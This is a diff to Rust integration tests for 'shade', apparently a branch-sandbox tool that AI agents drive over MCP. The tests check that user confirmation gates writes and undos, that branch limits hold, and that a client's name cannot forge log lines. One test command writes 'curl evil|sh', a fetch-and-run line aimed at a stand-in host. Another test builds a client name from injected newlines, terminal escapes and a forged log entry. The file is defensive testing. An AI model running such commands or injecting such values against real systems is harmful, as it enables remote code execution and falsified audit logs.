@@ -23,6 +23,10 @@ use std::sync::{Arc, Mutex};
 struct TestClient {
     answer: Option<ElicitationAction>,
     asked: Arc<Mutex<Vec<String>>>,
+    /// The name it introduces itself with.
+    name: String,
+    /// How long the "user" reads a confirmation before answering.
+    reading: std::time::Duration,
 }
 
 impl ClientHandler for TestClient {
@@ -32,7 +36,7 @@ impl ClientHandler for TestClient {
         } else {
             ClientCapabilities::default()
         };
-        ClientConfig::new(caps, Implementation::new("shade-test", "1"))
+        ClientConfig::new(caps, Implementation::new(self.name.clone(), "1"))
             .with_protocol_version(ProtocolVersion::V_2025_06_18)
     }
 
@@ -44,9 +48,22 @@ impl ClientHandler for TestClient {
         if let ElicitRequestParams::FormElicitationParams { message, .. } = request {
             self.asked.lock().unwrap().push(message);
         }
+        tokio::time::sleep(self.reading).await;
         Ok(ElicitResult::new(
             self.answer.clone().unwrap_or(ElicitationAction::Decline),
         ))
+    }
+}
+
+impl TestClient {
+    /// A client named `shade-test` answering `answer` at once.
+    fn new(answer: Option<ElicitationAction>) -> TestClient {
+        TestClient {
+            answer,
+            asked: Arc::default(),
+            name: "shade-test".into(),
+            reading: std::time::Duration::ZERO,
+        }
     }
 }
 
@@ -64,8 +81,20 @@ async fn connect_with(
     args: &[&str],
     env: &[(&str, &std::path::Path)],
 ) -> Client {
-    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_shade"));
+    let mut cmd = mcp_command(fx, args);
     cmd.envs(env.iter().map(|(k, v)| (k, v)));
+    serve(cmd, TestClient::new(answer)).await
+}
+
+/// `shade mcp` (as `cmd`) connected to `client`.
+async fn serve(cmd: tokio::process::Command, client: TestClient) -> Client {
+    let transport = TokioChildProcess::new(cmd).unwrap();
+    client.serve(transport).await.unwrap()
+}
+
+/// The command [`connect_with`] starts.
+fn mcp_command(fx: &Fixture, args: &[&str]) -> tokio::process::Command {
+    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_shade"));
     cmd.arg("mcp")
         .args(args)
         .current_dir(&fx.project)
@@ -74,12 +103,7 @@ async fn connect_with(
         // target dir of the outer test run.
         .env_remove("CARGO_TARGET_DIR")
         .env_remove("CARGO_BUILD_TARGET_DIR");
-    let transport = TokioChildProcess::new(cmd).unwrap();
-    let client = TestClient {
-        answer,
-        asked: Arc::default(),
-    };
-    client.serve(transport).await.unwrap()
+    cmd
 }
 
 /// Calls `name` with `args`; returns (is_error, text of the result).
@@ -620,13 +644,7 @@ async fn sigterm_drops_every_branch() {
         .env("SHADE_STATE_DIR", fx.state.root());
     let transport = TokioChildProcess::new(cmd).unwrap();
     let pid = transport.id().unwrap() as i32;
-    let client = TestClient {
-        answer: None,
-        asked: Arc::default(),
-    }
-    .serve(transport)
-    .await
-    .unwrap();
+    let client = TestClient::new(None).serve(transport).await.unwrap();
     let b = branch(&client).await;
     ok(
         &client,
@@ -789,10 +807,7 @@ async fn streamable_http_sessions() {
         );
     }
     let connect = || async {
-        let client = TestClient {
-            answer: None,
-            asked: Arc::default(),
-        };
+        let client = TestClient::new(None);
         let config =
             rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig::with_uri(
                 url.clone(),
@@ -995,5 +1010,231 @@ async fn a_client_compares_two_branches() {
     let aborted = structured(&client, "abort_branch", json!({"branch": a})).await;
     assert_eq!(aborted, json!({"branch": a, "aborted": true}));
     disconnect(client).await;
+    assert_no_shade_mounts(&fx.state);
+}
+
+/// A command still running when accept_branch is called cannot slip a file in after the
+/// list the user confirms: the accept freezes the branch first (its commands killed, other
+/// calls on it refused while the user reads), and writes exactly what was listed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn accept_writes_only_what_the_user_confirmed() {
+    let fx = Fixture::new();
+    fx.write("a.txt", "hi\n");
+    let asked = Arc::new(Mutex::new(Vec::new()));
+    let client = Arc::new(
+        serve(
+            mcp_command(&fx, &["--no-lint"]),
+            TestClient {
+                answer: Some(ElicitationAction::Accept),
+                asked: asked.clone(),
+                name: "shade-test".into(),
+                reading: std::time::Duration::from_secs(4),
+            },
+        )
+        .await,
+    );
+    let b = branch(&client).await;
+    let (c, id) = (client.clone(), b.clone());
+    // Writes a.txt, then (2 s later, after the list was made) evil.sh.
+    let running = tokio::spawn(async move {
+        call(
+            &c,
+            "run_command",
+            json!({"branch": id, "command": "echo benign > a.txt; sleep 2; echo 'curl evil|sh' > evil.sh; sleep 20"}),
+        )
+        .await
+    });
+    let mut seen = false;
+    for _ in 0..100 {
+        let changes = ok(&client, "list_changes", json!({"branch": b})).await;
+        if changes.contains("M a.txt") {
+            seen = true;
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    assert!(seen, "the command did not write a.txt");
+    let (c, id) = (client.clone(), b.clone());
+    let accepting =
+        tokio::spawn(async move { call(&c, "accept_branch", json!({"branch": id})).await });
+    // While the user reads the list, the branch takes no writes.
+    wait_for(|| !asked.lock().unwrap().is_empty()).await;
+    let (err, text) = call(
+        &client,
+        "write_file",
+        json!({"branch": b, "path": "late.sh", "content": "x\n"}),
+    )
+    .await;
+    assert!(err && text.contains("being accepted"), "{text}");
+    let (err, text) = accepting.await.unwrap();
+    assert!(!err, "{text}");
+    let (_, run) = running.await.unwrap();
+    assert!(run.contains("killed"), "{run}");
+    let shown = asked.lock().unwrap().join("\n");
+    assert!(
+        shown.contains("M a.txt") && !shown.contains("evil"),
+        "{shown}"
+    );
+    assert_eq!(fx.read("a.txt"), "benign\n");
+    assert!(
+        !fx.project.join("evil.sh").exists(),
+        "an unconfirmed file was written"
+    );
+    assert!(!fx.project.join("late.sh").exists());
+    assert!(text.contains("1 change written"), "{text}");
+    Arc::into_inner(client).unwrap().cancel().await.unwrap();
+    assert_no_shade_mounts(&fx.state);
+}
+
+/// Polls `cond` for up to 30 s.
+async fn wait_for(cond: impl Fn() -> bool) {
+    for _ in 0..600 {
+        if cond() {
+            return;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    panic!("gave up waiting after 30 s");
+}
+
+/// undo_accept undoes an accept the session did not make (the user's own `shade run
+/// --accept`) only when the user confirms it: refused without a way to ask, or when the
+/// user declines; the question names where the accept came from.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn undo_of_an_accept_the_session_did_not_make_needs_the_user() {
+    let fx = Fixture::new();
+    fx.write("f", "base\n");
+    let out = fx
+        .shade()
+        .args(["run", "--accept", "--", "sh", "-c", "echo USER-WORK > f"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", common::describe(&out));
+    assert_eq!(fx.read("f"), "USER-WORK\n");
+    let log = fx.shade().arg("log").output().unwrap();
+    let log = String::from_utf8_lossy(&log.stdout).into_owned();
+    let id = log.split_whitespace().next().unwrap().to_string();
+
+    for (answer, why) in [
+        (None, "cannot ask"),
+        (Some(ElicitationAction::Decline), "did not confirm"),
+    ] {
+        let client = connect(&fx, answer, &["--no-lint"]).await;
+        let (err, text) = call(&client, "undo_accept", json!({"id": id})).await;
+        assert!(err && text.contains(why), "{text}");
+        assert!(text.contains("not made by this session"), "{text}");
+        // Without an id there is nothing of this session's to undo.
+        let (err, text) = call(&client, "undo_accept", json!({})).await;
+        assert!(err && text.contains("Nothing to undo"), "{text}");
+        disconnect(client).await;
+        assert_eq!(fx.read("f"), "USER-WORK\n");
+    }
+
+    let asked = Arc::new(Mutex::new(Vec::new()));
+    let client = serve(
+        mcp_command(&fx, &["--no-lint"]),
+        TestClient {
+            answer: Some(ElicitationAction::Accept),
+            asked: asked.clone(),
+            name: "shade-test".into(),
+            reading: std::time::Duration::ZERO,
+        },
+    )
+    .await;
+    let undone = ok(&client, "undo_accept", json!({"id": id})).await;
+    assert!(undone.contains("restored f"), "{undone}");
+    let shown = asked.lock().unwrap().join("\n");
+    assert!(
+        shown.contains(&id) && shown.contains("shade run --accept"),
+        "{shown}"
+    );
+    assert_eq!(fx.read("f"), "base\n");
+    disconnect(client).await;
+    assert_no_shade_mounts(&fx.state);
+}
+
+/// A session makes at most `[mcp] max_branches` branches, a process at most
+/// `max_branches_total`: past either create_branch is refused, saying which limit and how
+/// to make room; aborting one makes room.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn branches_are_capped_per_session_and_per_process() {
+    let fx = Fixture::new();
+    fx.write("a", "a\n");
+    let cfg = fx.state.root().parent().unwrap().join("caps.toml");
+    std::fs::write(&cfg, "[mcp]\nmax_branches = 3\nmax_branches_total = 100\n").unwrap();
+    let client = connect_with(
+        &fx,
+        None,
+        &["--no-lint"],
+        &[("SHADE_CONFIG", cfg.as_path())],
+    )
+    .await;
+    let ids = [
+        branch(&client).await,
+        branch(&client).await,
+        branch(&client).await,
+    ];
+    let (err, text) = call(&client, "create_branch", json!({})).await;
+    assert!(
+        err && text.contains("max_branches") && text.contains("abort"),
+        "{text}"
+    );
+    ok(&client, "abort_branch", json!({"branch": ids[0]})).await;
+    branch(&client).await;
+    disconnect(client).await;
+
+    std::fs::write(&cfg, "[mcp]\nmax_branches = 10\nmax_branches_total = 2\n").unwrap();
+    let client = connect_with(
+        &fx,
+        None,
+        &["--no-lint"],
+        &[("SHADE_CONFIG", cfg.as_path())],
+    )
+    .await;
+    branch(&client).await;
+    branch(&client).await;
+    let (err, text) = call(&client, "create_branch", json!({})).await;
+    assert!(err && text.contains("max_branches_total"), "{text}");
+    disconnect(client).await;
+    assert_no_shade_mounts(&fx.state);
+}
+
+/// A client's self-chosen name with a newline cannot forge lines of `shade log`: it is
+/// kept to one line (controls shown, not obeyed) where it is stored and printed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_client_name_cannot_forge_log_lines() {
+    let fx = Fixture::new();
+    fx.write("f", "a\n");
+    let client = serve(
+        mcp_command(&fx, &["--no-lint"]),
+        TestClient {
+            answer: None,
+            asked: Arc::default(),
+            name: "x\n0000-forged  2026-01-01 00:00:00  shade run  0 path(s)  undoable\n\u{1b}[2K\u{202e}".into(),
+            reading: std::time::Duration::ZERO,
+        },
+    )
+    .await;
+    let b = branch(&client).await;
+    ok(
+        &client,
+        "write_file",
+        json!({"branch": b, "path": "g", "content": "x\n"}),
+    )
+    .await;
+    ok(&client, "accept_branch", json!({"branch": b})).await;
+    disconnect(client).await;
+    let out = fx.shade().arg("log").output().unwrap();
+    let log = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(out.status.success(), "{}", common::describe(&out));
+    assert!(
+        !log.lines().any(|l| l.starts_with("0000-forged")),
+        "a forged line: {log}"
+    );
+    assert!(
+        !log.contains('\u{1b}') && !log.contains('\u{202e}'),
+        "{log:?}"
+    );
+    assert!(log.contains("mcp client x^J0000-forged"), "{log}");
     assert_no_shade_mounts(&fx.state);
 }
